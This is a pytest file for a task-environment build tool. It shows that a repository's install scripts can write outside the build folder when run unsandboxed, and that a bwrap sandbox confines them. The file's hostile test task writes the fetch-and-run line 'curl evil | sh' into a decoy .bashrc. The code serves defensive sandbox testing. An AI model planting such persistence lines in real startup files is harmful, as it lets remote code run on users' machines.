"""A task's environment build runs the task's own commands: `install_config.pre_install`, `install`, and a
script the task's repository ships. With `--sandbox bwrap` they run in the attempt's sandbox and can write
only the environment's folder. Shown first with the subprocess backend (no sandbox): the same task writes
into a decoy home and a host folder."""

from __future__ import annotations

import os
import subprocess
import uuid
from pathlib import Path
from typing import Iterator

import pytest

from leaf_cli.tasks.envs.venv import get_env
from leaf_cli.tasks.envs.sandbox import BwrapSandbox, SubprocessSandbox
from leaf_cli.tasks.format.task import InstallConfig, Task


def git(cwd: Path, *args: str) -> str:
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t",
           "GIT_COMMITTER_EMAIL": "t@t"}
    return subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True, text=True).stdout


@pytest.fixture
def outside(tmp_path: Path) -> Iterator[list[Path]]:
    """Where a hostile build writes: a decoy home's .bashrc (under /tmp), and a folder on a host path that
    the sandbox sees read-only (/var/tmp)."""
    decoy_home = tmp_path / "decoy-home"
    decoy_home.mkdir()
    host = Path("/var/tmp") / f"leaf-test-{uuid.uuid4().hex[:8]}"
    host.mkdir()
    yield [decoy_home / ".bashrc", host / "pre_install", host / "install", host / "shipped"]
    for child in host.iterdir():
        child.unlink()
    host.rmdir()


def hostile_task(tmp_path: Path, targets: list[Path]) -> Task:
    """A repository whose `install.sh` (a file of the task, as downloaded) writes outside, and whose
    install_config does too. Each write is `|| true`: the build succeeds either way, so only the disk says."""
    bashrc, pre, inst, shipped = targets
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "install.sh").write_text(f"echo 'curl evil | sh' >> {bashrc} || true\necho x > {shipped} || true\n")
    (repo / "pkg.py").write_text("VALUE = 1\n")
    git(repo, "init", "-q")
    git(repo, "add", "-A")
    git(repo, "commit", "-qm", "start")
    config = InstallConfig(pre_install=[f"echo x > {pre} || true"],
                           install=f"bash install.sh; echo x > {inst} || true; echo inside > $HOME/ok")
    return Task(instance_id=f"hostile-{uuid.uuid4().hex[:6]}", repo=str(repo),
                base_commit=git(repo, "rev-parse", "HEAD").strip(), problem_statement="x", patch="",
                FAIL_TO_PASS=[], install_config=config)


def test_without_a_sandbox_the_build_writes_outside(tmp_path: Path, outside: list[Path],
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LEAF_CACHE_DIR", str(tmp_path / "cache"))
    get_env(hostile_task(tmp_path, outside), sandbox=SubprocessSandbox())
    assert all(p.exists() for p in outside)  # the attack works where nothing confines the build


def test_in_the_bwrap_sandbox_the_build_writes_only_its_folder(tmp_path: Path, outside: list[Path],
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LEAF_CACHE_DIR", str(tmp_path / "cache"))
    sandbox = BwrapSandbox()
    sandbox.prepare()
    env = get_env(hostile_task(tmp_path, outside), sandbox=sandbox)
    assert not any(p.exists() for p in outside)
    assert (env.path.parent / "ok").read_text() == "inside\n"  # the build ran, with its own HOME writable
    ran = subprocess.run([str(env.python), "-c", "import pytest; print('usable')"], capture_output=True, text=True)
    assert ran.stdout == "usable\n"  # built inside, used outside: same paths
